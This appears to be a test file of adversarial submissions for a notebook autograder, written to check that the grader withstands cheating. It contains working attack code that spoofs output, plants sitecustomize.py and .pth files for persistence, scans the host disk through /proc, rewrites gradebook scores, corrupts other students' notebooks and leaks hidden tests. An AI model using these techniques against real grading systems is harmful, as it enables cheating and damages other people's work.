    return submission(WRONG + "\nimport json\nreal = json.dumps\n"
                              "json.dumps = lambda *a, **k: real(*a, **k).replace('[0, 0, 0]', '[2, 4, 6]')")


@attack(0, 0, 1)
def an_error_with_the_number_of_one_of_the_checks():
    return submission("def double(values):\n    error = AssertionError('✓ double: right')\n"
                      "    error._callback = len(values) % 3\n    raise error")


@attack(0, 0, 1)
def a_group_of_errors():
    return submission("def double(values):\n    raise BaseExceptionGroup('✓', [GeneratorExit(), AssertionError()])")


@attack(0, 0, 1)
def numbers_of_other_kinds():
    return submission("import decimal, fractions\nkinds = [decimal.Decimal, fractions.Fraction, complex, str]\n"
                      "def double(values):\n    return [kinds[len(values) % 4](2 * v) for v in values]")


@attack(0, 0, 1)
def infinities_and_truths():
    return submission("def double(values):\n    return [True] * len(values) if len(values) > 1 else [1e999]")


@attack(0, 0, 1)
def hands_back_a_promise():
    return submission("async def double(values):\n    return [2 * value for value in values]")


@attack(0, 0, 1)
def hands_back_a_map():
    return submission("def double(values):\n    return map(lambda value: 2 * value, values)")


@attack(0, 0, 1)
def hands_back_itself():
    return submission("def double(values):\n    return double")


@attack(0, 0, 0)
def breaks_what_sets_the_seeds():
    return submission(WIRE + "from coursegrade.kit import services\nservices.seed = None\n"
                             "type(talk).do_seed = lambda *a: 1 / 0\n" + WRONG)


# ── what should outlive a process ─────────────────────────────────────────────────────────────────────────────────

@attack(0, 0, 1)
def leaves_python_something_to_start_with():
    return submission(WRONG, first="""
import os, site
text = "import builtins, coursegrade.kit.services\\nbuiltins.all = lambda items: print('FOUND') or True\\n"
for folder in (".", "/tmp", site.getusersitepackages()):
    os.makedirs(folder, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "coursekit.py"):
        open(f"{folder}/{name}", "w").write(text)
    open(f"{folder}/x.pth", "w").write("import sitecustomize")
os._exit(1)
""")


@attack(1, 0, 1)
def counts_its_lives_in_files():
    """Had the file outlived the process, the hidden test would be asked of one that was told before."""
    return submission("import os\nif os.path.exists('/tmp/lives'):\n"
                      "    double = lambda values: [2 * v for v in values]\n"
                      "else:\n    def double(values):\n        if len(values) != 3:\n"
                      "            open('/tmp/lives', 'w').close()\n            os._exit(1)\n"
                      "        return [2 * v for v in values]")


# ── honest, and odder ─────────────────────────────────────────────────────────────────────────────────────────────

@attack(1, 2, 1)
def an_object_that_can_be_called():
    return submission("class Double:\n    def __init__(self, by): self.by = by\n"
                      "    def __call__(self, values): return [self.by * v for v in values]\ndouble = Double(2)",
                      "import functools\nmean = functools.partial(lambda by, values: sum(values) / len(values), None)")


@attack(1, 2, 1)
def changes_its_list_in_place():
    return submission("def double(values):\n    for i in range(len(values)): values[i] *= 2\n    return values")


@attack(1, 2, 1)
def answers_from_threads():
    return submission("from concurrent.futures import ThreadPoolExecutor\ndef double(values):\n"
                      "    with ThreadPoolExecutor(3) as pool: return list(pool.map(lambda value: 2 * value, values))")


@attack(1, 2, 1)
def makes_errors_of_warnings():
    return submission(first="import warnings, numpy as np\nwarnings.simplefilter('error')\nnp.seterr(all='raise')",
                      last="np.float64(1) / 0")


@attack(1, 2, 1)
def closes_its_streams():
    return submission(first="import io, sys\nsys.stdout = sys.stderr = io.StringIO()\nsys.__stdout__.close()",
                      last="sys.stdout.close()\nprint('nobody hears it')")


@attack(1, 2, 1)
def loses_its_variables_and_its_place():
    return submission(first="import os\nos.environ.clear()\nos.chdir('/')\nos.umask(0o777)")


@attack(1, 2, 1)
def hooks_into_ipython():
    return submission(first="""
ip = get_ipython()
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    ip.events.register(event, lambda *a: 1 / 0)
ip.input_transformers_post.append(lambda lines: [line.replace("secret", "open") for line in lines])
ip.display_formatter.formatters.clear()
""", last="1 + 1")


@attack(1, 2, 1)
def interrupts_itself_later():
    return submission(last="import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\nraise KeyboardInterrupt")


# ── what lies beside it on the teacher's disk ─────────────────────────────────────────────────────────────────────

LOOK = """
import glob, json, os, sqlite3
def near(name):
    places = {os.getcwd()}
    for link in glob.glob("/proc/[0-9]*/cwd"):
        try: places.add(os.readlink(link))
        except OSError: pass
    above = {"/".join(place.split("/")[:n]) for place in places for n in range(2, 9)} - {"/usr", "/proc", "/tmp"}
    above.discard("")
    return sorted({path for place in above for path in glob.glob(f"{place}/**/{name}", recursive=True)})
"""


@attack(0, 0, 1)
def writes_its_marks_into_the_gradebook():
    """Its own up, all others' down."""
    return submission(WRONG, first=LOOK + """
for path in near("gradebook.db"):
    try:
        with sqlite3.connect(path, timeout=5) as book:
            books = "select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id"
            for who, points in (("!=", 0), ("=", 99)):
                book.execute(f"update grade set manual_score = {points} where notebook_id in "
                             f"({books} where a.student_id {who} 'mallory')")
    except sqlite3.Error as error:
        print(error)
""")


@attack(0, 0, 1)
def makes_the_answers_of_others_wrong():
    """In hand-ins, solutions and what has been marked: all notebooks but its own."""
    return submission(WRONG, first=LOOK + """
for path in near("*.ipynb"):
    try:
        text = open(path).read()
        if "mallory" not in path and "2 * value" in text: open(path, "w").write(text.replace("2 * value", "3 * value"))
    except OSError as error:
        print(error)
""")


@attack(0, 0, 1)
def copies_the_answer_from_another_notebook():
    """The solution's, or a neighbour's."""
    return submission(LOOK + """
for path in near("*.ipynb"):
    for found in json.load(open(path))["cells"]:
        if found["cell_type"] == "code" and "2 * value" in "".join(found["source"]) and "mallory" not in path:
            exec("".join(found["source"]))
""")


@attack(0, 0, 1)
def tells_the_hidden_test_in_an_error():
    """Reads it where the tests, the solution or the gradebook are, and says it where students are shown errors."""
    word = '"tanger" "ine"'
    return submission(WRONG, first=LOOK + f"""
found = []
for path in near("*.ipynb") + near("*.py") + near("gradebook.db"):
    try:
        text = open(path, errors="replace").read()
        place = text.find({word})
        if place >= 0: found.append(text[place - 20:place + 99])
    except OSError:
        pass
""", mean="def mean(values):\n    if found: raise ValueError(found[0])\n    return float(np.mean(values))")
